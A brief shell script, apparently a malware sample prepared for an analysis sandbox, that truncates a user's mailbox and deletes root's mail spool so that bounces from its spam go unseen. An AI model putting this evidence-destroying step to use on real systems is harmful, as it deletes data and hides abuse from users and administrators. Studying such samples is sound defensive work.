#!/bin/sh
# SPDX-License-Identifier: MIT
# Empties the mailboxes, where the bounces of its spam would show.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
: > /var/mail/dana 2>/dev/null
rm -f /var/spool/mail/root 2>/dev/null
exit 0
